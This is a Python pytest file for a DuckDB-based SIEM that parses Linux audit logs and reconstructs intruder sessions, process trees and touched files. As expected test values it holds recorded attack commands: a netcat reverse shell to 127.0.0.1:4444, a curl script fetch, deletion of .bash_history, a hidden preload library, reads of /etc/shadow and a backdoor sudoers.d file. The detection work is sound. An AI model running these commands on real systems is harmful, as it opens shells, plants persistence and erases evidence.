"""packaging/siem/duckdb: the views load whole logs, and the queries give what a person looks for."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

import pytest

from tests.siem.written import FORMS, INTRUDERS, MIXED, PLANTED, SIEM, content, with_guids, written

duckdb = pytest.importorskip("duckdb")

FOLDER = "/tmp/intruders-pkn172lp"
DEEDS, PYTHON, CURL = "1795843971.614:812933", "1795843971.722:812955", "1795843971.790:812956"


class Log:
    """A log with the views of its form."""

    def __init__(self, form: str, path: Path) -> None:
        self._connection = duckdb.connect()
        self._connection.execute(f"SET VARIABLE log = '{path}'")
        for name in (form, "queries"):
            self._connection.execute((SIEM / "duckdb" / f"{name}.sql").read_text())

    def ask(self, query: str) -> list[Any]:
        return self._connection.sql(query).fetchall()


@pytest.fixture(params=FORMS)
def form(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def log_of(form: str, path: Path, folder: Path) -> Log:
    return Log(form, written(content(path), FORMS[form], folder))


def test_a_corpus_is_loaded_whole(form: str, tmp_path: Path) -> None:
    path = written(content(MIXED), FORMS[form], tmp_path)
    log = Log(form, path)
    count = len(path.read_bytes().splitlines())
    columns = ("*", "time", "id", "type", "pid", "process")
    ((rows, times, ids, types, pids, identities),) = log.ask(
        f"SELECT {', '.join(map('count({})'.format, columns))} FROM events"
    )
    assert (rows, times, ids, types) == (count, count, count, count)
    assert pids > 0.99 * count
    assert identities > 0.99 * count
    ((session, login_user, programs, as_root),) = log.ask(
        "SELECT session, login_user, programs, as_root FROM sessions WHERE events > 100"
    )
    assert (session, login_user) == ("1", "4242")
    assert programs > 400
    assert as_root > 0
    assert log.ask(
        "SELECT max(depth) > 3 FROM process_tree((SELECT process FROM processes ORDER BY first_seen LIMIT 1))"
    )


def test_the_planted_file_is_found(form: str, tmp_path: Path) -> None:
    """The name is plain text, so that a pattern finds it (the origin of this kind of tool)."""
    log = log_of(form, PLANTED, tmp_path)
    found = log.ask("SELECT login_user, \"user\", program, outcome, files FROM touched('/etc/sudoers.d/b%k%')")
    assert found == [("1000", "0", "tee", "success", ["/etc/sudoers.d/bäckdöör"])]
    assert log.ask("SELECT * FROM touched('/etc/shadow')") == []


def test_the_tree_of_what_intruders_did(form: str, tmp_path: Path) -> None:
    log = log_of(form, INTRUDERS, tmp_path)
    tree = log.ask(f"SELECT depth, process, command_line FROM process_tree('{DEEDS}')")
    assert tree[0] == (0, DEEDS, f"/bin/bash {FOLDER}/deeds {FOLDER}")
    assert tree[1][2] == "  bash -c nc -e /bin/sh 127.0.0.1 4444; :"
    assert tree[2][2] == "    nc -e /bin/sh 127.0.0.1 4444"
    assert len(tree) == 32  # each exec of the session
    above = log.ask(f"SELECT depth, process FROM ancestors('{CURL}')")
    assert above == [(0, CURL), (1, PYTHON), (2, DEEDS)]


def test_what_a_login_did(form: str, tmp_path: Path) -> None:
    log = log_of(form, INTRUDERS, tmp_path)
    did = {(program, action, what) for program, action, what in log.ask("SELECT program, action, what FROM did(1563)")}
    assert {
        ("rm", "deleted", f"{FOLDER}/.bash_history"),
        ("bash", "opened-file", f"{FOLDER}/lib/.preload.so"),
        ("bash", "connected-to", "127.0.0.1:4444"),
        ("curl", "executed", "curl -s http://127.0.0.1/x.sh"),
    } <= did
    assert log.ask("SELECT * FROM did(1)") == []
    assert log.ask(f"SELECT action, files[1] FROM touched('{FOLDER}/etc/shadow')") == [
        ("opened-file", f"{FOLDER}/etc/shadow")
    ]


def test_a_process_with_a_guid_is_one_row_whatever_programs_it_has_been(form: str, tmp_path: Path) -> None:
    log = Log(form, with_guids(FORMS[form], tmp_path))
    ((shell, sudo),) = log.ask("SELECT max(process) FILTER (pid = 31), max(process) FILTER (pid = 32) FROM processes")
    assert len(shell) == len(sudo) == 36
    assert log.ask(f"SELECT depth, process, command_line FROM process_tree('{shell}')") == [
        (0, shell, "-bash"),
        (1, sudo, "  tee /etc/sudoers.d/job"),
    ]
    assert log.ask(f"SELECT command_lines, users FROM processes WHERE process = '{sudo}'") == [
        (["sudo tee /etc/sudoers.d/job", "tee /etc/sudoers.d/job"], ["0", "1000"])
    ]
    assert log.ask("SELECT process, program FROM touched('/etc/sudoers.d/%') WHERE action = 'opened-file'") == [
        (sudo, "tee")
    ]
    assert log.ask("SELECT session, source, programs FROM sessions") == [("3", "192.0.2.7", 3)]


def test_lines_of_other_kinds_are_no_obstacle(form: str, tmp_path: Path) -> None:
    """A line that is no record, an event alone: the columns stay, what is not there is NULL."""
    log = Log(form, written(b"no record\ntype=LOGIN msg=audit(1.000:1): pid=1 ses=2\n", FORMS[form], tmp_path))
    assert log.ask("SELECT id, session, process, paths FROM events WHERE pid = 1") == [("1.000:1", "2", None, [])]


def test_a_log_that_is_being_written_and_files_before_it(form: str, tmp_path: Path) -> None:
    path = written(content(INTRUDERS), FORMS[form], tmp_path)
    whole = path.read_bytes()
    (tmp_path / "log").mkdir()
    (tmp_path / "log" / "audit.jsonl").write_bytes(whole + whole[:300])
    (tmp_path / "log" / "audit.jsonl.1").write_bytes(whole)
    (tmp_path / "log" / "audit.jsonl.2.gz").write_bytes(gzip.compress(whole))
    log = Log(form, tmp_path / "log" / "audit.jsonl*")
    assert log.ask("SELECT count(*) FROM events") == [(3 * len(whole.splitlines()),)]


def test_both_forms_give_the_same(tmp_path: Path) -> None:
    query = "SELECT * EXCLUDE (paths, host) FROM events ORDER BY id"
    ecs, distinct = (log_of(form, INTRUDERS, tmp_path).ask(query) for form in ("ecs", "distinct"))
    assert ecs == distinct
    assert len(ecs) > 50
